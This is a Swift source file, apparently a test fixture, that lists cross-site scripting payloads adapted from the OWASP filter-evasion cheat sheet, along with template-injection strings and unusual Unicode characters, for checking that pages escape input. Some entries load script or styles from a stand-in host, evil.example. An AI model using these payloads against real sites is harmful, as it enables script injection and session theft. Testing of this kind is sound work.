/// Texts that try to run a script or to add something to a page, after the OWASP XSS Filter Evasion Cheat
/// Sheet, and what is particular to our pages.
enum ScriptingVectors {
  static let all = tags + attributes + references + styles + ends + ours + characters
  /// The same, some at a time in one text: what lets one of them through changes the page all the same.
  static let handfuls = stride(from: 0, to: all.count, by: 8).map {
    all[$0..<min($0 + 8, all.count)].joined(separator: " ")
  }

  private static let tags = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT/XSS SRC='x.js'></SCRIPT>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>", "<SCRIPT SRC=//evil.example/.j>",
    "<SCRIPT a='>' SRC='x.js'></SCRIPT>", "<script type=module>alert(1)</script>",
    "<svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mi//xlink:href='data:x'>",
    "<img src=x onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=`javascript:alert('1')`>", "<IMG SRC=/ onerror=alert(1)></img>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=http://evil.example/scriptlet.html <", "<frameset><frame src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x>", "<body onload=alert(1)>", "<BODY ONLOAD =alert('1')>",
    "<base href='javascript:alert(1);//'>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<META HTTP-EQUIV=Set-Cookie Content=USERID=x>",
    "<form action=http://evil.example><input type=submit>", "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<xss onclick=alert(1)>x",
    "<table background=javascript:alert(1)><td>", "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>", "<a href='jav\tascript:alert(1)'>x</a>", "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  ]

  private static let attributes = [
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "` onclick=alert(1) `",
    "\"><img src=x onerror=alert(1)>", "'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "x\u{0}\" onclick=alert(1)", "\"\u{301} onmouseover=alert(1) x=\"\u{301}",
    "\"\u{200D} onmouseover=alert(1) x=\"\u{200D}", "'\u{FE0F} onclick=alert(1) x='\u{FE0F}",
    "javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  ]

  private static let references = [
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&lt;img src=x onerror=alert(1)&gt;", "&LT;b>",
    "&#x3C;b&#x3E;", "&#0000060script&#0000062", "&amp;lt;b&amp;gt;", "&quot; onclick=alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "&#10;&#13;", "&NewLine;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(¢1¢)¼/script¾", "\\x3cb\\x3e",
  ]

  private static let styles = [
    "<style>*{display:none}</style>", "<STYLE>@import'http://evil.example/x.css';</STYLE>",
    "<div style=\"background:url(javascript:alert(1))\">", "<p style='position:fixed;inset:0'>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<div style='width: expression(alert(1))'>",
  ]

  private static let ends = [
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><b>",
    "</textarea><b>", "</pre><b>", "</noscript><b>", "</div></div></article></main><b>", "</form>",
    "</body></html><b>", "</fieldset></details><b>", "<!--", "-->", "<!-- <script>", "--!>", "]]>",
    "<![CDATA[<b>]]>", "<!doctype html>", "<?xml version='1.0'?>",
    "<!--[if gte IE 4]><b><![endif]-->",
    "<![if true]><b>", "<!--#exec cmd='/bin/echo'-->", "<? echo('x') ?>", "<", "</", "<a", "<!",
    "&", "&#",
  ]

  private static let ours = [
    "{{friend}}", "{{{friend}}}", "{{&friend}}", "{{#turns}}", "{{/turns}}", "{{>dimension}}",
    "{{=<% %>=}}", "{{% CONTENT_TYPE: TEXT}}", "\";alert(1);//", "\\\";alert(1);//",
    "${alert(1)}", "__proto__", "constructor", "\"}</script>",
  ]

  private static let characters = [
    "a\u{0}b", "<\u{0}script>alert(1)</script>", "\u{1B}[31mred\u{1B}[0m", "\u{1B}]0;title\u{7}",
    "\u{202E}evil\u{202C}", "\u{2066}x\u{2069}", "\u{2028}alert(1)\u{2029}", "\u{85}next",
    "\u{FEFF}bom", "\u{FFFE}\u{FFFF}", "\u{10FFFF}", "<\u{301}b>", "<\u{200D}b>",
    "\u{FF1C}b\u{FF1E}",
    "a\r\nb\rc\nd", "\n\nfirst", " \t indented", "e\u{301}", "👩‍👩‍👧",
  ]
}
